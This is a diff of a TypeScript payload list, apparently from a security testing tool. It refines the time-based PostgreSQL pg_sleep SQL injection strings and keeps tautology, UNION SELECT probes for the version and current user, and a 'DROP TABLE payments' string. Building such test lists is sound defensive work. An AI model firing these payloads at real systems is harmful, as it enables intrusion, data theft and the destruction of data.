@@ -7,15 +7,19 @@ import { readRunContext } from '../../evidence/index.ts';
 /** Seconds that an injected sleep would add to the answer. */
 export const SLEEP_SECONDS = 3;
 
+/** A subquery sleeps once, whatever the table holds; beside a constant truth it would not be run at all. */
+const SLEEP = `(SELECT count(*) FROM pg_sleep(${SLEEP_SECONDS})) > 0`;
+
 export const SQL_INJECTION = [
-  `' OR pg_sleep(${SLEEP_SECONDS}) IS NOT NULL OR '1'='1`,
+  `' OR ${SLEEP} --`,
+  `' AND ${SLEEP} OR 'a'='b`,
   "' OR '1'='1",
   "' OR 1=1 --",
   '1 OR 1=1',
   '" OR ""="',
   "') OR ('1'='1",
   `'; SELECT pg_sleep(${SLEEP_SECONDS}) --`,
-  `'||(SELECT pg_sleep(${SLEEP_SECONDS}))||'`,
+  `'||(SELECT count(*) FROM pg_sleep(${SLEEP_SECONDS}))||'`,
   "' UNION SELECT NULL,NULL,NULL,NULL --",
   "' UNION ALL SELECT version(),current_user,NULL --",
   "'; DROP TABLE payments; --",
